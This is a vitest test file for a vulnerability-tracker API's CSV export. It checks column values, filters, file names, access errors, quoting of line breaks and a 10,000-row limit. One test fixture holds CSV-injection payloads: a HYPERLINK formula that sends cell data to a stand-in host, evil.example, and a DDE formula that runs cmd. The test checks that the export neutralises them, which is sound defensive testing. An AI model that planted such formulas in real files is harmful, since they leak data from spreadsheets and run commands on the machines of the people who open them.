import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sources } from '../../src/sources/index.ts';
import { describeEachDatabase } from '../helpers/databases.ts';
import {
  buildProjectWorld,
  expectMissingScope,
  expectNotFound,
  expectValidation,
  MICROS_Z,
  type ProjectWorld,
} from '../helpers/projects.ts';

const CATALOG_HEADER = [
  'cve_id',
  'title',
  'description',
  'created_at',
  'updated_at',
  'cvss20',
  'cvss30',
  'cvss31',
  'cvss40',
  'severity',
  'kev',
  'epss',
  'vendors',
  'weaknesses',
] as const;
const PROJECT_HEADER = [
  ...CATALOG_HEADER,
  'status',
  'assignee',
  'assigned_at',
  'tracker_updated_at',
] as const;

/**
 * A CVE whose text a spreadsheet would run: the real CVE-2024-6387 record (OpenSSH) under a
 * synthetic id, its title and description replaced by formulas.
 */
const FORMULA_CVE = 'CVE-2099-0100';
const FORMULA_DESCRIPTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
const FORMULA_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0";

/**
 * A CVE whose text has line breaks and no comma or quote (a CSV writer that quotes only for commas and
 * quotes splits its row in two): the same record under another synthetic id.
 */
const MULTILINE_CVE = 'CVE-2099-0101';
const MULTILINE_TITLE = 'Two lines\nof title';
const MULTILINE_DESCRIPTION =
  'A race in the signal handler\nlets an attacker run code\r\nas root\rbefore login';

function formulaRecordDir(): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'vt-formula-'));
  const write = (cveId: string, title: string, description: string) => {
    const record = JSON.parse(
      fs.readFileSync('test/fixtures/cve5/cves/2024/6xxx/CVE-2024-6387.json', 'utf8'),
    ) as { cveMetadata: { cveId: string }; containers: { cna: Record<string, unknown> } };
    record.cveMetadata.cveId = cveId;
    record.containers.cna.title = title;
    record.containers.cna.descriptions = [{ lang: 'en', value: description }];
    fs.writeFileSync(path.join(dir, `${cveId}.json`), JSON.stringify(record));
  };
  write(FORMULA_CVE, FORMULA_TITLE, FORMULA_DESCRIPTION);
  write(MULTILINE_CVE, MULTILINE_TITLE, MULTILINE_DESCRIPTION);
  return dir;
}

/** A parsed row by column name (a catalog CSV lacks the four tracker columns). */
type Row = Record<(typeof PROJECT_HEADER)[number], string>;

/** A text as the CSV must hold it: formulas prefixed with `'`, everything else as it is. */
const asCsv = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);

/** The parsed CSV: the header row, then each row keyed by it. */
function parseCsv(body: string): { header: string[]; rows: Row[] } {
  const [header = [], ...lines] = parse(body) as string[][];
  return {
    header,
    rows: lines.map((cells) => Object.fromEntries(header.map((h, i) => [h, cells[i] ?? ''])) as Row),
  };
}

interface Detail {
  title: string;
  vendors: string[];
  weaknesses: string[];
  metrics: Record<string, { data: { score?: number } | null }>;
}

describeEachDatabase('API v2 CSV export', (use) => {
  let w: ProjectWorld;
  let admin: string;
  let project: string;

  const get = (url: string, header = admin) => w.call('GET', url, header);
  const csv = async (url: string, header = admin) => {
    const res = await get(url, header);
    expect({ url, status: res.statusCode }).toEqual({ url, status: 200 });
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    return { res, ...parseCsv(res.body) };
  };
  const jsonList = async (url: string) => {
    const res = await get(url);
    expect({ url, status: res.statusCode }).toEqual({ url, status: 200 });
    return res.json() as { count: number; results: Record<string, unknown>[] };
  };
  const ids = async (url: string) => (await jsonList(url)).results.map((r) => r.cve_id as string);

  beforeAll(async () => {
    w = await buildProjectWorld(use(), 'csvx');
    const dir = formulaRecordDir();
    try {
      await w.services.imports.importInputs(sources.cve5, [dir]);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
    admin = await w.token({ mode: 'write' });
    // A name with a space: the download's file name must stay a plain token.
    project = `/api/v2/organizations/${w.org.name}/projects/${encodeURIComponent('web app')}`;
    expect(
      (await w.call('POST', `/api/v2/organizations/${w.org.name}/projects`, admin, { name: 'web app' }))
        .statusCode,
    ).toBe(201);
    const subs = await w.call('PUT', `${project}/subscriptions`, admin, {
      vendors: ['tukaani', 'google'],
      products: { debian: ['debian_linux'] },
    });
    expect(subs.statusCode).toBe(200);
  });
  afterAll(() => w.close());

  describe('GET /api/v2/cves?format=csv', () => {
    it.each([
      'ordering=cve_id',
      'vendor=redhat',
      'kev=true&ordering=-created_at',
      'created_gte=2024-01-01&ordering=updated_at',
      `q=${encodeURIComponent('cvss31>=7 OR vendor=google')}`,
    ])(
      'holds the same CVEs, in the same order and with the same values, as the JSON list (%s)',
      async (query) => {
        const json = await jsonList(`/api/v2/cves?page_size=100&${query}`);
        // page and page_size are ignored: the export holds every match.
        const { res, header, rows } = await csv(`/api/v2/cves?format=csv&page=2&page_size=1&${query}`);
        expect(res.headers['content-disposition']).toBe('attachment; filename="cves.csv"');
        expect(header).toEqual(CATALOG_HEADER);
        expect(rows.length).toBeGreaterThan(0);
        expect(rows.length).toBe(json.count);
        expect(
          rows.map((r) => ({
            created_at: r.created_at,
            updated_at: r.updated_at,
            cve_id: r.cve_id,
            description: r.description,
          })),
        ).toEqual(json.results.map((r) => ({ ...r, description: asCsv(r.description as string) })));

        for (const row of rows) {
          const detail = (await get(`/api/v2/cves/${row.cve_id}`)).json() as Detail;
          const score = (key: string) => String(detail.metrics[key]?.data?.score ?? '');
          expect(row).toMatchObject({
            title: asCsv(detail.title),
            cvss20: score('cvssV2_0'),
            cvss30: score('cvssV3_0'),
            cvss31: score('cvssV3_1'),
            cvss40: score('cvssV4_0'),
            epss: score('epss'),
            vendors: detail.vendors.join(';'),
            weaknesses: detail.weaknesses.join(';'),
          });
        }
      },
    );

    it('writes kev and the CVSS v3.1 severity as the kev and cvss filters select (0.0 is none)', async () => {
      const { rows } = await csv('/api/v2/cves?format=csv');
      const kev = new Set(await ids('/api/v2/cves?kev=true&page_size=100'));
      for (const row of rows)
        expect([row.cve_id, row.kev]).toEqual([row.cve_id, String(kev.has(row.cve_id))]);
      // The rating is CVSS's (0.0 is none); the filter's `low` also holds 0.0, having no `none`.
      for (const row of rows.filter((r) => r.severity === 'none')) expect(row.cvss31).toBe('0');
      for (const level of ['low', 'medium', 'high', 'critical']) {
        const selected = await ids(`/api/v2/cves?cvss=${level}&page_size=100&ordering=cve_id`);
        const written = rows
          .filter((r) => r.severity === level || (level === 'low' && r.severity === 'none'))
          .map((r) => r.cve_id);
        expect(written.sort()).toEqual(selected);
      }
      const empty = await ids('/api/v2/cves?cvss=empty&page_size=100&ordering=cve_id');
      expect(
        rows
          .filter((r) => r.severity === '')
          .map((r) => r.cve_id)
          .sort(),
      ).toEqual(empty);
      expect(empty.length + rows.filter((r) => r.severity !== '').length).toBe(rows.length);
    });

    it('is a header row alone when nothing matches', async () => {
      const { res, rows } = await csv('/api/v2/cves?format=csv&vendor=no-such-vendor');
      expect(rows).toEqual([]);
      expect(res.body).toBe(`${CATALOG_HEADER.join(',')}\r\n`);
    });

    it('is offered by the vendor, product and weakness lists, named after them', async () => {
      const all = (await csv('/api/v2/cves?format=csv&vendor=redhat')).res.body;
      const vendor = await csv('/api/v2/vendors/redhat/cves?format=csv');
      expect(vendor.res.headers['content-disposition']).toBe('attachment; filename="cves-redhat.csv"');
      expect(vendor.res.body).toBe(all);
      const product = await csv('/api/v2/vendors/tukaani/products/xz/cves?format=csv');
      expect(product.res.headers['content-disposition']).toBe('attachment; filename="cves-tukaani-xz.csv"');
      expect(product.rows.map((r) => r.cve_id)).toEqual(['CVE-2024-3094']);
      const weakness = await csv('/api/v2/weaknesses/CWE-506/cves?format=csv');
      expect(weakness.res.headers['content-disposition']).toBe('attachment; filename="cves-CWE-506.csv"');
      expect(weakness.rows.map((r) => r.cve_id)).toEqual(['CVE-2024-3094']);
    });

    it("prefixes cells a spreadsheet would run as formulas with ' (CSV injection)", async () => {
      const detail = (await get(`/api/v2/cves/${FORMULA_CVE}`)).json() as Detail & { description: string };
      expect(detail.description).toBe(FORMULA_DESCRIPTION);
      expect(detail.title).toBe(FORMULA_TITLE);
      const { res, rows } = await csv('/api/v2/cves?format=csv&search=2099-0100');
      expect(rows.map((r) => [r.cve_id, r.title, r.description])).toEqual([
        [FORMULA_CVE, `'${FORMULA_TITLE}`, `'${FORMULA_DESCRIPTION}`],
      ]);
      expect(res.body).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")"`);
    });

    it('quotes a cell with a line break, so a CSV parser reads one row per CVE', async () => {
      const detail = (await get(`/api/v2/cves/${MULTILINE_CVE}`)).json() as Detail & { description: string };
      expect(detail.description).toBe(MULTILINE_DESCRIPTION);
      const { res, rows } = await csv('/api/v2/cves?format=csv&search=2099-01');
      expect(rows.map((r) => [r.cve_id, r.title, r.description])).toEqual([
        [MULTILINE_CVE, MULTILINE_TITLE, MULTILINE_DESCRIPTION],
        [FORMULA_CVE, `'${FORMULA_TITLE}`, `'${FORMULA_DESCRIPTION}`],
      ]);
      expect(res.body).toContain(`"${MULTILINE_TITLE}"`);
    });

    it('answers 400 to a format other than json or csv', async () => {
      const res = await get('/api/v2/cves?format=xml');
      expect(res.statusCode).toBe(400);
      expect(Object.keys(res.json().error.details)).toEqual(['format']);
      expect((await get('/api/v2/cves?format=json')).json().results).toBeInstanceOf(Array);
    });

    it('answers 403 missing_scope to a token without catalog:read', async () => {
      const header = await w.token({ mode: 'read', scopes: ['tracker:read'] });
      expectMissingScope(await get('/api/v2/cves?format=csv', header), 'catalog:read');
    });
  });

  describe('GET …/projects/<project>/cves?format=csv', () => {
    beforeAll(async () => {
      const moves = [
        { cve: 'CVE-2024-3094', body: { status: 'analysis_in_progress', assignee: w.member.email } },
        { cve: 'CVE-2023-4863', body: { status: 'resolved' } },
      ];
      for (const { cve, body } of moves)
        expect((await w.call('PATCH', `${project}/cves/${cve}`, admin, body)).statusCode).toBe(200);
    });

    it('holds the project list with the triage set through the API', async () => {
      const reader = await w.token({ mode: 'read', scopes: ['tracker:read'] });
      const json = await jsonList(`${project}/cves?page_size=100`);
      const { res, header, rows } = await csv(`${project}/cves?format=csv`, reader);
      expect(res.headers['content-disposition']).toBe(
        `attachment; filename="cves-${w.org.name}-web_app.csv"`,
      );
      expect(header).toEqual(PROJECT_HEADER);
      expect(rows.map((r) => r.cve_id)).toEqual([
        'CVE-2024-3094',
        'CVE-2022-20698',
        'CVE-2024-31331',
        'CVE-2023-4863',
      ]);
      expect(
        rows.map((r) => ({
          created_at: r.created_at,
          updated_at: r.updated_at,
          cve_id: r.cve_id,
          description: r.description,
          tracker: {
            status: r.status || null,
            // The CSV writes the assignee's email; the JSON shows it as OpenCVE does, `{email}`.
            assignee: r.assignee ? { email: r.assignee } : null,
            assigned_at: r.assigned_at || null,
            updated_at: r.tracker_updated_at || null,
          },
        })),
      ).toEqual(json.results);
      const xz = rows[0]!;
      expect(xz).toMatchObject({ status: 'analysis_in_progress', assignee: w.member.email });
      expect(xz.assigned_at).toMatch(MICROS_Z);
      expect(xz.tracker_updated_at).toMatch(MICROS_Z);
      expect(rows[3]).toMatchObject({ status: 'resolved', assignee: '', assigned_at: '' });
      expect(rows[1]).toMatchObject({ status: '', assignee: '', assigned_at: '', tracker_updated_at: '' });
    });

    it('takes the tracker filters', async () => {
      const resolved = await csv(`${project}/cves?format=csv&status=resolved`);
      expect(resolved.rows.map((r) => r.cve_id)).toEqual(['CVE-2023-4863']);
      const mine = await csv(`${project}/cves?format=csv&assignee=${encodeURIComponent(w.member.email)}`);
      expect(mine.rows.map((r) => r.cve_id)).toEqual(['CVE-2024-3094']);
      const nobody = await csv(`${project}/cves?format=csv&assignee=nobody@example.com`);
      expect(nobody.rows).toEqual([]);
      expect(nobody.header).toEqual(PROJECT_HEADER);
    });

    it("answers 404 to another organization's token and for an unknown project", async () => {
      expectNotFound(await get(`${project}/cves?format=csv`, w.other.header));
      expectNotFound(await get(`/api/v2/organizations/${w.org.name}/projects/nope/cves?format=csv`));
    });

    it('answers 403 missing_scope to a token without tracker:read', async () => {
      const header = await w.token({ mode: 'read', scopes: ['catalog:read', 'projects:read'] });
      expectMissingScope(await get(`${project}/cves?format=csv`, header), 'tracker:read');
    });
  });

  // Last: it adds 10,001 synthetic CVEs to this database.
  describe('the 10,000-row limit', () => {
    const SYNTHETIC = 10_001;

    beforeAll(async () => {
      const db = w.services.database.db;
      await sql`
        INSERT INTO cve (cve_id, title, description, created_at, updated_at, metrics, cvss31, kev, vendors)
        SELECT format('CVE-2098-%s', lpad(i::text, 5, '0')), 'Synthetic ' || i,
               'A synthetic CVE for the export limit, number ' || i,
               timestamptz '2020-01-01T00:00:00Z' + i * interval '1 minute',
               timestamptz '2020-06-01T00:00:00Z' + i * interval '1 minute',
               '{}'::jsonb, (i % 100) / 10.0, i % 7 = 0, ARRAY['synthetic-vendor']
        FROM generate_series(1, ${SYNTHETIC}) AS i`.execute(db);
      // As an import batch does: cached counts belong to the previous catalog.
      await sql`UPDATE catalog_state SET version = version + 1`.execute(db);
    });

    it('answers 400 saying how many matched when more than 10,000 CVEs match', async () => {
      expectValidation(await get('/api/v2/cves?format=csv&vendor=synthetic-vendor'), {
        format: ['10,001 CVEs match; an export holds at most 10,000: narrow the filters'],
      });
      const total = (await jsonList('/api/v2/cves')).count;
      expect(total).toBeGreaterThan(SYNTHETIC);
      expectValidation(await get('/api/v2/cves?format=csv'), {
        format: [
          `${total.toLocaleString('en-US')} CVEs match; an export holds at most 10,000: narrow the filters`,
        ],
      });
    });

    it('exports exactly 10,000 CVEs, whole and in order', async () => {
      // Created from 00:02 on: numbers 2 to 10,001.
      const { rows } = await csv(
        '/api/v2/cves?format=csv&vendor=synthetic-vendor&created_gte=2020-01-01T00:02:00Z',
      );
      expect(rows.length).toBe(10_000);
      expect(rows[0]).toMatchObject({
        cve_id: 'CVE-2098-10001',
        title: 'Synthetic 10001',
        created_at: '2020-01-07T22:41:00Z',
        updated_at: '2020-06-07T22:41:00Z',
        cvss31: '0.1',
        severity: 'low',
        kev: 'false',
        vendors: 'synthetic-vendor',
      });
      expect(rows.at(-1)!.cve_id).toBe('CVE-2098-00002');
      const numbers = rows.map((r) => Number(r.cve_id.slice(-5)));
      expect(numbers).toEqual(numbers.map((_, i) => 10_001 - i));
    });
  });
});
